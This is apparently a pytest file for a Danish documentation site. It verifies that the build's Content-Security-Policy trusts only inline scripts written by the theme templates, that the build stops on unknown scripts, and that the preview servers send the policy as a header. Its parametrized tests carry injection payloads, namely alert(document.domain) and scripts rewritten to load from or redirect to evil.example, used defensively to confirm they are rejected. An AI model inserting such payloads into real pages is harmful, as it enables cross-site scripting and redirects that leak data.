"""The security policy trusts only the scripts the theme and our templates write (csp.py): never
a script because it is on the finished page. Any other inline script stops the build naming the
page; the preview servers (`mkdocs serve` = ./dev serve, `videnbank vis`) send the same policy as
a header."""

from __future__ import annotations

import os
import re
import shutil
import subprocess
import sys
import time
import urllib.request
from pathlib import Path

import pytest
from conftest import REPO, copy_site
from test_preview import _free_port
from videnbank import csp, postbuild, settings

MATERIAL_SCOPE = ('__md_scope=new URL("../..",location),'
                  '__md_hash=e=>[...e].reduce(((e,_)=>(e<<5)-e+_.charCodeAt(0)),0),'
                  '__md_get=(e,_=localStorage,t=__md_scope)=>JSON.parse(_.getItem(t.pathname+"."+e)),'
                  '__md_set=(e,_,t=localStorage,a=__md_scope)=>{try{t.setItem(a.pathname+"."+e,JSON.stringify(_))}'
                  'catch(e){}}')
INJECTED = "alert(document.domain)"


def _page(*scripts: str) -> str:
    inline = "".join(f"<script>{s}</script>" for s in scripts)
    return f'<!doctype html><html lang="da"><head><title>x</title></head><body>{inline}</body></html>'


@pytest.fixture(scope="module")
def policy() -> csp.Policy:
    return csp.Policy.for_build(REPO / "overrides")


def test_the_known_scripts_come_from_the_theme_templates(policy: csp.Policy) -> None:
    folders = csp.template_folders(REPO / "overrides")
    assert any(f.parts[-2] == "material" for f in folders) and any(f.parts[-2] == "zensical" for f in folders)
    assert 6 <= len(policy.known) <= 20
    assert policy.is_known(MATERIAL_SCOPE)
    assert policy.is_known(MATERIAL_SCOPE.replace('"../.."', '"."'))


@pytest.mark.parametrize("script", [
    INJECTED,
    MATERIAL_SCOPE + ";" + INJECTED,
    MATERIAL_SCOPE.replace('"../.."', '"https://evil.example/"'),
    MATERIAL_SCOPE.replace('"../.."', '"//evil.example/"'),
    MATERIAL_SCOPE.replace('"../.."', '"."+alert(1)+"'),
    'window.location.replace(["https://evil.example",window.location.search,window.location.hash].join(""))',
])
def test_a_script_found_on_the_page_is_not_trusted(script: str, policy: csp.Policy) -> None:
    fresh = csp.Policy(policy.known)
    value = fresh.policy(_page(MATERIAL_SCOPE, script), "/historier/x/")
    assert value.count("'sha256-") == 1  # Material's own script only
    assert fresh.unknown and fresh.unknown[0][0] == "/historier/x/"
    problem = fresh.problem()
    assert problem is not None and "/historier/x/" in problem and "byggeriet stopper" in problem


def test_the_live_reload_script_is_read_from_mkdocs() -> None:
    pattern = csp.live_reload_script()
    assert pattern is not None and "livereload" in pattern.pattern
    assert csp.Policy.for_build(REPO / "overrides", serving=True).known[-1] is pattern


def test_json_blocks_are_data_not_scripts(policy: csp.Policy) -> None:
    fresh = csp.Policy(policy.known)
    page = _page(MATERIAL_SCOPE).replace("</body>", '<script type="application/ld+json">{"a": 1}</script></body>')
    assert fresh.policy(page).count("'sha256-") == 1 and fresh.unknown == []


def test_a_template_edited_during_the_preview_is_read_again(tmp_path: Path) -> None:
    overrides = tmp_path / "overrides"
    overrides.mkdir()
    (overrides / "main.html").write_text("<script>var a = 1;</script>", encoding="utf-8")
    assert csp.Policy.for_build(overrides).is_known("var a = 1;")
    assert not csp.Policy.for_build(overrides).is_known("var b = 2;")
    (overrides / "main.html").write_text("<script>var b = 2;</script>\n", encoding="utf-8")
    policy = csp.Policy.for_build(overrides)
    assert policy.is_known("var b = 2;")
    assert not policy.is_known("var a = 1;")


def test_an_unknown_inline_script_stops_the_build_naming_the_page(tmp_path: Path) -> None:
    site = tmp_path / "site"
    (site / "historier" / "x").mkdir(parents=True)
    (site / "index.html").write_text(_page(MATERIAL_SCOPE.replace('"../.."', '"."')), encoding="utf-8")
    (site / "historier" / "x" / "index.html").write_text(_page(MATERIAL_SCOPE, INJECTED), encoding="utf-8")
    only = settings.Settings(root=REPO, site=settings.Site("x", "/"), docs_dir=REPO / "docs", only=[REPO])
    with pytest.raises(postbuild.BuildError, match=r"/historier/x/: <script>alert\(document\.domain\)"):
        postbuild.finish_site(site, only)


def _headers(url: str, seconds: float = 90) -> tuple[dict[str, str], str]:
    end = time.monotonic() + seconds
    while True:
        try:
            with urllib.request.urlopen(url, timeout=5) as response:
                return dict(response.headers.items()), response.read().decode("utf-8")
        except OSError:
            if time.monotonic() > end:
                raise
            time.sleep(0.5)


def _serve(command: list[str], root: Path, log: Path) -> subprocess.Popen[bytes]:
    env = {k: v for k, v in os.environ.items() if not k.startswith("VIDENBANK_")}
    env.update({"NO_MKDOCS_2_WARNING": "1", "VIDENBANK_KLADDER": "1"})
    return subprocess.Popen(command, cwd=root, env=env, stdout=subprocess.DEVNULL, stderr=log.open("w"))


@pytest.mark.parametrize("server", ["mkdocs serve", "videnbank vis"])
def test_the_preview_servers_send_the_policy_as_a_header(server: str, tmp_path: Path) -> None:
    root = copy_site(tmp_path / "src")
    port = _free_port()
    story = "historier/folkemoedet-i-silkeborg/"
    if server == "mkdocs serve":
        command = [sys.executable, "-m", "mkdocs", "serve", "-a", f"127.0.0.1:{port}", "-f", str(root / "mkdocs.yml")]
    else:
        script = Path(sys.executable).parent / "videnbank"
        command = [str(script if script.exists() else shutil.which("videnbank")), "--rod", str(root), "vis",
                   "stories/folkemoedet-i-silkeborg.md", "--port", str(port)]
    process = _serve(command, root, tmp_path / "serve.log")
    try:
        headers, html = _headers(f"http://127.0.0.1:{port}/{story}")
    finally:
        process.terminate()
        process.wait(timeout=20)
    value = headers.get("Content-Security-Policy", "")
    assert value.startswith("default-src 'self';") and "object-src 'none'" in value, headers
    assert "'unsafe-inline'" not in value.split("script-src")[1]
    scripts = [s for s in re.findall(r"<script>(.*?)</script>", html, re.DOTALL)]
    assert any("livereload(" in s for s in scripts), "the page is served with live reload"
    assert value.count("'sha256-") == len(set(scripts)), (value, scripts)
